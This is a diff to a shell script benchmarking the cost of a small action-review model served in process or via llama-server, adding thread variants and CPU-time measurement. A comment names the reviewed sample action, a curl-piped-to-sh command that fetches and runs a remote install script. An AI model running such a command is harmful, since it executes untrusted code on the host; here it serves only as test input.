@@ -7,8 +7,11 @@
 #   - in process (kind gguf), with the cached prompt prefix and without it
 #     (the whole prompt evaluated for every review);
 #   - through llama-server (kind llama-server), built from the pinned source
-#     (make llama-server), on a UNIX socket, the verdict generated under the
-#     grammar; the server keeps the prompt's prefix (cache_prompt).
+#     (make llama-server), on a UNIX socket: one token under the grammar of
+#     the two answers, the verdict read from their probabilities; the server
+#     keeps the prompt's prefix (cache_prompt). The server rows run N
+#     reviews, as the in-process cached ones; for the 135M shape with 2
+#     server threads and with 1.
 # The answers are meaningless (random weights); the cost is the real one.
 # Actions are `sh -c "curl -s http://198.51.100.N/install.sh | sh"`; for the
 # 135M shape also a short (`ls N`) and a long one, to show the cost per
@@ -47,25 +50,38 @@ for m in 135m 0.5b; do
 		echo "$m-shape, llama-server: skipped, no $LLAMA_SERVER (make llama-server)"
 		continue
 	fi
-	dir=$(mktemp -d)
-	"$LLAMA_SERVER" -m "$model" --host "$dir/s.sock" -c 2048 -t 2 -np 1 --no-webui \
-		>"$dir/log" 2>&1 &
-	pid=$!
-	t0=$(date +%s%N)
-	while ! curl -sf --unix-socket "$dir/s.sock" http://x/health >/dev/null 2>&1; do
-		if ! kill -0 $pid 2>/dev/null; then
-			tail -5 "$dir/log"
-			break
+	# 2 threads as the in-process rows; for the 135M shape 1 thread too
+	# (steadier when another process holds a CPU, see BENCHMARKS.md)
+	for t in 2 $([ $m = 135m ] && echo 1); do
+		dir=$(mktemp -d)
+		"$LLAMA_SERVER" -m "$model" --host "$dir/s.sock" -c 2048 -t $t -np 1 --no-webui \
+			>"$dir/log" 2>&1 &
+		pid=$!
+		t0=$(date +%s%N)
+		while ! curl -sf --unix-socket "$dir/s.sock" http://x/health >/dev/null 2>&1; do
+			if ! kill -0 $pid 2>/dev/null; then
+				tail -5 "$dir/log"
+				break
+			fi
+			sleep 0.1
+		done
+		load=$(( ($(date +%s%N) - t0) / 1000000 ))
+		if kill -0 $pid 2>/dev/null; then
+			# the server's CPU time per review (utime + stime, in ticks):
+			# what a review costs whatever else the machine runs
+			hz=$(getconf CLK_TCK)
+			# the prompt's fixed part once, before the measured reviews
+			"$BENCH" "unix://$dir/s.sock" - 2 1 >/dev/null || :
+			c0=$(awk '{print $14 + $15}' /proc/$pid/stat)
+			r=$("$BENCH" "unix://$dir/s.sock" - 2 "$N") || r="- - - - -"
+			c1=$(awk '{print $14 + $15}' /proc/$pid/stat)
+			set -- $r
+			row "$m-shape, llama-server, $t thread(s)" "$1 $2 $3 $load -"
+			echo "    server CPU time per review: $(( (c1 - c0) * 1000 / hz / N )) ms," \
+				"load average $(cut -d' ' -f1 /proc/loadavg)"
+			kill $pid
+			wait $pid 2>/dev/null || :
 		fi
-		sleep 0.1
+		rm -rf "$dir"
 	done
-	load=$(( ($(date +%s%N) - t0) / 1000000 ))
-	if kill -0 $pid 2>/dev/null; then
-		r=$("$BENCH" "unix://$dir/s.sock" - 2 $(( (N + 1) / 2 ))) || r="- - - - -"
-		set -- $r
-		row "$m-shape, llama-server, socket" "$1 $2 $3 $load -"
-		kill $pid
-		wait $pid 2>/dev/null || :
-	fi
-	rm -rf "$dir"
 done
